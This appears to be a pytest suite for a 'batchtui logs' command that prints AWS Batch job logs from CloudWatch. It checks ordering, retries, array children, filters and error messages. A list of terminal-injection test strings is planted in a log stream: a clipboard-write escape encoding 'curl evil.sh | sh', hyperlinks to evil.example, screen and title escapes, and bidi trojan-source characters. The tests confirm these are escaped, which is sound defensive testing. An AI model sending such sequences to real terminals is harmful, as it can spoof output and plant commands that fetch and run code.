"""`batchtui logs` against the sandbox over HTTP: the right lines, each once, in order, marked."""

from __future__ import annotations

import os
import pty
import re
import subprocess
import sys
from typing import Any

from logs_helpers import json_records, stream_messages

GROUP = "/aws/batch/job"


def lines(out: str) -> list[str]:
    return out.splitlines()


def test_single_job_prints_its_stream_exactly(jobdef, submit, run_to_end, client, cli) -> None:
    job = run_to_end(submit(jobdef("sleep 200")))
    expected = [
        e["message"] for e in stream_messages(client, GROUP, job["container"]["logStreamName"])
    ]
    assert len(expected) >= 5
    code, out, err = cli(job["jobId"])
    assert code == 0, err
    assert lines(out) == expected  # no marks: one attempt, one stream
    # --follow on a finished job prints the same lines (FilterLogEvents) and ends by itself.
    code, out, err = cli(job["jobId"], "--follow")
    assert code == 0, err
    assert lines(out) == expected
    assert "every stream drained" in err
    for argv in (["--attempt", "2"], ["--attempt", "2", "--follow"]):
        code, out, err = cli(job["jobId"], *argv)
        assert (code, out) == (2, "")
        assert err == (
            f"batchtui: --attempt 2: job {job['jobId']} has 1 attempt, not 2 "
            "(it is not retried: use --attempt 1 or none)\n"
        )


def test_retried_job_prints_every_attempt_in_order_marked(
    jobdef, submit, run_to_end, client, cli
) -> None:
    jd = jobdef("sleep 60; exit 3")
    job = run_to_end(submit(jd, retryStrategy={"attempts": 3}))
    assert job["status"] == "FAILED"
    streams = [a["container"]["logStreamName"] for a in job["attempts"]]
    assert len(streams) == 3 and len(set(streams)) == 3
    expected = [
        f"[attempt {i + 1}] {e['message']}"
        for i, s in enumerate(streams)
        for e in stream_messages(client, GROUP, s)
    ]
    code, out, err = cli(job["jobId"])
    assert code == 0, err
    assert lines(out) == expected

    code, out, _ = cli(job["jobId"], "--attempt", "2")
    assert lines(out) == [x for x in expected if x.startswith("[attempt 2] ")]
    code, out, _ = cli(job["jobId"], "--attempt", "latest", "--output", "json")
    records = json_records(out)
    assert {r["attempt"] for r in records} == {3}
    # AWS's names and values: the event as GetLogEvents reports it, in its stream and group.
    assert [(r["timestamp"], r["ingestionTime"], r["message"]) for r in records] == [
        (e["timestamp"], e["ingestionTime"], e["message"])
        for e in stream_messages(client, GROUP, streams[2])
    ]
    assert {(r["jobId"], r["logGroupName"], r["logStreamName"]) for r in records} == {
        (job["jobId"], GROUP, streams[2])
    }
    # Beyond retryStrategy.attempts is bad input, like --child beyond the array (exit 2).
    code, _, err = cli(job["jobId"], "--attempt", "4")
    assert code == 2 and "has at most 3 attempts, not 4" in err


def test_array_children_one_or_all_merged(jobdef, submit, run_to_end, client, cli) -> None:
    parent = submit(jobdef("sleep 100"), arrayProperties={"size": 3})
    run_to_end(parent)
    batch = client("batch")
    children = batch.describe_jobs(jobs=[f"{parent}:{i}" for i in range(3)])["jobs"]
    by_index = {c["arrayProperties"]["index"]: c for c in children}
    per_child = {
        i: stream_messages(client, GROUP, by_index[i]["container"]["logStreamName"])
        for i in range(3)
    }

    code, out, err = cli(parent)
    assert code == 2 and "array job of 3 children" in err and "--child" in err

    code, out, err = cli(parent, "--child", "1")
    assert code == 0, err
    assert lines(out) == [e["message"] for e in per_child[1]]
    code, out, err = cli(f"{parent}:1")  # the child's own id works too
    assert lines(out) == [e["message"] for e in per_child[1]]

    code, out, err = cli(parent, "--child", "all", "--output", "json")
    assert code == 0, err
    records = json_records(out)
    got = sorted((r["arrayIndex"], r["timestamp"], r["message"]) for r in records)
    want = sorted((i, e["timestamp"], e["message"]) for i, evs in per_child.items() for e in evs)
    assert got == want  # every line of every child, once
    assert [r["timestamp"] for r in records] == sorted(r["timestamp"] for r in records)
    code, out, _ = cli(parent, "--child", "all")
    assert all(x.startswith("[child ") for x in lines(out))


def test_time_window_and_grep(jobdef, submit, run_to_end, client, cli) -> None:
    job = run_to_end(submit(jobdef("sleep 300")))
    events = stream_messages(client, GROUP, job["container"]["logStreamName"])
    middle = events[len(events) // 2]["timestamp"]
    code, out, _ = cli(job["jobId"], "--start", str(middle), "--grep", "progress|exit")
    assert code == 0
    want = [e["message"] for e in events if e["timestamp"] >= middle]
    assert lines(out) == [m for m in want if "progress" in m or "exit" in m]
    code, out, _ = cli(job["jobId"], "--timestamps", "--end", str(middle))
    assert len(lines(out)) == sum(1 for e in events if e["timestamp"] <= middle)
    assert lines(out)[0].split(" ", 1)[0].endswith("Z")


def test_unknown_job_missing_group_other_driver_and_unstarted_job(
    jobdef, submit, run_to_end, client, cli
) -> None:
    code, _, err = cli("no-such-job")
    assert code == 1 and "job 'no-such-job' not found" in err

    group = "/custom/logs-tests-deleted"
    conf = {"logDriver": "awslogs", "options": {"awslogs-group": group}}
    job = run_to_end(submit(jobdef("sleep 20", conf)))
    assert job["container"]["logStreamName"]
    client("logs").delete_log_group(logGroupName=group)
    code, _, err = cli(job["jobId"])
    assert code == 1 and f"log group '{group}' does not exist" in err
    assert "Traceback" not in err

    splunk = {"logDriver": "splunk", "options": {"splunk-url": "https://splunk.example"}}
    job_id = submit(jobdef("sleep 20", splunk))
    code, _, err = cli(job_id)
    assert code == 1 and "'splunk' log driver" in err

    waiting = submit(jobdef("sleep 20"))  # the sandbox has not been advanced: not started
    code, out, err = cli(waiting)
    assert code == 1 and out == ""
    assert "has not started, so it has no logs yet" in err and "--follow" in err


def test_custom_group_and_prefix_are_read_from_the_job_definition(
    jobdef, submit, run_to_end, client, cli
) -> None:
    conf = {
        "logDriver": "awslogs",
        "options": {"awslogs-group": "/team/etl", "awslogs-stream-prefix": "etl"},
    }
    job = run_to_end(submit(jobdef("sleep 40", conf)))
    stream = job["container"]["logStreamName"]
    assert stream.startswith("etl/default/")
    code, out, err = cli(job["jobId"])
    assert code == 0, err
    assert lines(out) == [e["message"] for e in stream_messages(client, "/team/etl", stream)]


HOSTILE = [
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 clipboard",
    "\x1b]0;new title\x1b\\ title",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H cleared",
    "\x9b31m c1 csi \x9d0;t\x9c",
    "bell\x07 back\b\b\b\bspace cr\roverwrite nul\x00",
    "trojan \u202e\u2066 source \u2069",
    "[link=https://evil.example]markup[/link] [@click=app.quit]x[/] [$accent]v[/]",
]


def _hostile_job(jobdef, submit, run_to_end, client) -> dict[str, Any]:
    job = run_to_end(submit(jobdef("sleep 10")))
    stream = job["container"]["logStreamName"]
    last = stream_messages(client, GROUP, stream)[-1]["timestamp"]
    client("logs").put_log_events(
        logGroupName=GROUP,
        logStreamName=stream,
        logEvents=[{"timestamp": last + 1 + i, "message": m} for i, m in enumerate(HOSTILE)],
    )
    return job


def test_hostile_lines_never_reach_the_terminal_as_control_sequences(
    jobdef, submit, run_to_end, client, cli
) -> None:
    job = _hostile_job(jobdef, submit, run_to_end, client)
    code, out, err = cli(job["jobId"])
    assert code == 0, err
    data = out.encode("utf-8")
    assert b"\x1b" not in data and b"\x07" not in data and b"\x08" not in data
    assert b"\r" not in data and b"\x00" not in data
    assert re.search(rb"\xc2[\x80-\x9f]", data) is None  # C1 controls, UTF-8 encoded
    assert "\u202e" not in out and "\u2066" not in out
    assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 clipboard" in out  # shown, not dropped
    assert HOSTILE[-1] in out  # markup printed literally

    # JSON output escapes them too, and keeps the exact text.
    code, out, _ = cli(job["jobId"], "--output", "json")
    assert all(ord(c) < 0x7F and c >= " " for c in out.replace("\n", ""))
    assert [r["message"] for r in json_records(out)][-len(HOSTILE) :] == HOSTILE

    # --raw into a pipe keeps the bytes: the checks above are not vacuous.
    code, out, _ = cli(job["jobId"], "--raw")
    assert code == 0 and HOSTILE[0] in out


def test_raw_is_refused_when_stdout_is_a_terminal() -> None:
    controller, terminal = pty.openpty()
    try:
        proc = subprocess.run(
            [sys.executable, "-m", "batchtui", "logs", "job-1", "--raw"],
            stdout=terminal,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
            env={**os.environ, "AWS_ENDPOINT_URL": "http://127.0.0.1:1"},
        )
    finally:
        os.close(terminal)
        os.close(controller)
    assert proc.returncode == 2
    assert "--raw" in proc.stderr and "terminal" in proc.stderr
